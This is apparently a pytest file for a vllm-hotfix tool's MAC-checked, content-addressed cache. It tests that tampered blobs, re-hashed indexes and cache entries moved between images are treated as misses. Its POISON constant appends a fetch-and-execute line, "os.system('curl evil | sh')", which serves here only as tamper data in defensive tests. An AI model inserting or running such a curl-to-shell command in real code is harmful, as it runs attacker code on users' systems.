"""The facts cache: content-addressed, MAC-checked on every read, a failed check a miss (no engine).

The image is played by a stand-in engine whose probe answers from a dict, so
each test can see whether the cache answered or the image was read again.
"""

from __future__ import annotations

import base64
import hashlib
import json
import logging
import os
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from vllm_hotfix.building import sources
from vllm_hotfix.engine import ImageInfo
from vllm_hotfix.engine.model import ExecResult
from vllm_hotfix.journal import cache

IMAGE_ID = "sha256:" + "ef" * 32
REL = "vllm/models/minimax_m3/common/indexer.py"
REAL = b"def indexer():\n    return 1\n"
POISON = REAL + b"import os; os.system('curl evil | sh')\n"


class FakeBox:
    def __init__(self, files: Mapping[str, bytes]) -> None:
        self.files = files

    def exec(self, cmd: list[str], *, user: str = "0", timeout: int = 120) -> ExecResult:
        rels = cmd[4:]  # python -c SCRIPT PACKAGE REL...
        answer = {
            "python": "3.12.3", "cache_tag": "cpython-312", "site_dir": "/usr/lib/python3/dist-packages",
            "package_dir": "/usr/lib/python3/dist-packages/vllm", "version": "0.25.1", "machine": "x86_64",
            "dirs": [],
            "files": {rel: {"kind": "file", "mode": 0o644, "opt_levels": [0],
                            "data_b64": base64.b64encode(self.files[rel]).decode()} for rel in rels},
        }
        return ExecResult(0, json.dumps(answer), "")


class FakeEngine:
    def __init__(self, files: Mapping[str, bytes]) -> None:
        self.files = files
        self.probes = 0

    @contextmanager
    def box(self, image: str, python: str, deadline: float | None = None) -> Iterator[FakeBox]:
        self.probes += 1
        yield FakeBox(self.files)

    def history(self, image: str) -> list[dict[str, Any]]:
        return []


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    cache._host_key.cache_clear()
    return tmp_path / "state"


def _read(engine: FakeEngine, root: Path) -> bytes | None:
    info = ImageInfo(IMAGE_ID, (), (), None, None, (), "")
    _facts, files = sources.image_files(engine, "vllm", "python3", "base:x", info, [REL], root)  # type: ignore[arg-type]
    return files[REL]


def _index(root: Path) -> Path:
    [path] = (root / "bases" / IMAGE_ID.removeprefix("sha256:") / "index").glob("facts-*.json")
    return path


def test_a_second_read_comes_from_the_cache(state: Path, tmp_path: Path) -> None:
    engine = FakeEngine({REL: REAL})
    assert _read(engine, tmp_path / "cache") == REAL and engine.probes == 1
    assert _read(engine, tmp_path / "cache") == REAL and engine.probes == 1
    blob = tmp_path / "cache/bases" / IMAGE_ID.removeprefix("sha256:") / "blobs" / hashlib.sha256(REAL).hexdigest()
    assert blob.read_bytes() == REAL
    key = state / "vllm-hotfix" / "cache.key"
    assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_bytes()) == cache.KEY_BYTES


def test_attack_4_a_poisoned_entry_with_its_hash_recomputed_is_a_miss(
    state: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    root = tmp_path / "cache"
    engine = FakeEngine({REL: REAL})
    _read(engine, root)
    # What someone who can write build/ can do: a new blob, and the index pointed at its recomputed hash.
    index = _index(root)
    outer = json.loads(index.read_text())
    body = json.loads(outer["body"])
    digest = hashlib.sha256(POISON).hexdigest()
    (index.parent.parent / "blobs" / digest).write_bytes(POISON)
    body["files"][REL]["sha256"] = digest
    outer["body"] = json.dumps(body, sort_keys=True, separators=(",", ":"))
    index.write_text(json.dumps(outer))
    with caplog.at_level(logging.WARNING):
        assert _read(engine, root) == REAL
    assert engine.probes == 2  # read from the image again
    warnings = [r for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1 and str(index) in warnings[0].getMessage()
    # ...and the fresh entry replaced the poisoned one.
    caplog.clear()
    assert _read(engine, root) == REAL and engine.probes == 2 and not caplog.records


def test_a_blob_changed_in_place_is_a_miss_for_that_file(
    state: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    root = tmp_path / "cache"
    engine = FakeEngine({REL: REAL})
    _read(engine, root)
    blob = _index(root).parent.parent / "blobs" / hashlib.sha256(REAL).hexdigest()
    blob.write_bytes(POISON)
    with caplog.at_level(logging.WARNING):
        assert _read(engine, root) == REAL
    assert engine.probes == 2
    [warning] = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert str(blob) in warning and "does not hash to its name" in warning
    assert blob.read_bytes() == REAL  # rewritten


def test_an_index_moved_to_another_image_is_not_believed(state: Path, tmp_path: Path) -> None:
    root = tmp_path / "cache"
    key = cache.host_key(root)
    assert key is not None
    a = cache.Store(root / "bases" / "a", key)
    a.write("facts-x", {"files": {}})
    assert a.read("facts-x") == {"files": {}}
    b = cache.Store(root / "bases" / "b", key)
    b.index_path("facts-x").parent.mkdir(parents=True)
    b.index_path("facts-x").write_bytes(a.index_path("facts-x").read_bytes())
    assert b.read("facts-x") is None
    a.index_path("facts-y").write_bytes(a.index_path("facts-x").read_bytes())
    assert a.read("facts-y") is None
    # Another host's key (or none) reads nothing this host wrote.
    assert cache.Store(root / "bases" / "a", os.urandom(cache.KEY_BYTES)).read("facts-x") is None


def test_a_key_others_can_read_turns_the_cache_off(state: Path, tmp_path: Path,
                                                   caplog: pytest.LogCaptureFixture) -> None:
    key = state / "vllm-hotfix" / "cache.key"
    key.parent.mkdir(parents=True)
    key.write_bytes(os.urandom(cache.KEY_BYTES))
    key.chmod(0o644)
    engine = FakeEngine({REL: REAL})
    assert _read(engine, tmp_path / "cache") == REAL and _read(engine, tmp_path / "cache") == REAL
    assert engine.probes == 2  # no cache: the image each time
    assert "chmod 600" in caplog.text and not (tmp_path / "cache" / "bases").exists()


def test_a_key_inside_the_cache_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "cache" / "state"))
    cache._host_key.cache_clear()
    assert cache.host_key(tmp_path / "cache") is None


def test_poisoned_patch_results_and_bytecode_are_misses(state: Path, tmp_path: Path) -> None:
    engine = FakeEngine({REL: REAL})
    info = ImageInfo(IMAGE_ID, (), (), None, None, (), "")
    with sources.ImageReader(engine, info, "base:x", "vllm", "python3", tmp_path / "cache") as reader:  # type: ignore[arg-type]
        reader.store_patched("k1", {REL: REAL}, [])
        reader.store_bytecode(REL, REAL, "0", {"a.pyc": b"pyc"})
        assert reader.cached_patched("k1") == ({REL: REAL}, [])
        assert reader.cached_bytecode(REL, REAL, "0") == {"a.pyc": b"pyc"}
        for name in ("patched/k1", reader._pyc_name(REL, REAL, "0")):
            path = reader._store.index_path(name)  # type: ignore[union-attr]
            outer = json.loads(path.read_text())
            outer["body"] = outer["body"].replace(hashlib.sha256(REAL).hexdigest(),
                                                  hashlib.sha256(POISON).hexdigest())
            path.write_text(json.dumps(outer))
        assert reader.cached_patched("k1") is None
        assert reader.cached_bytecode(REL, REAL, "0") is None
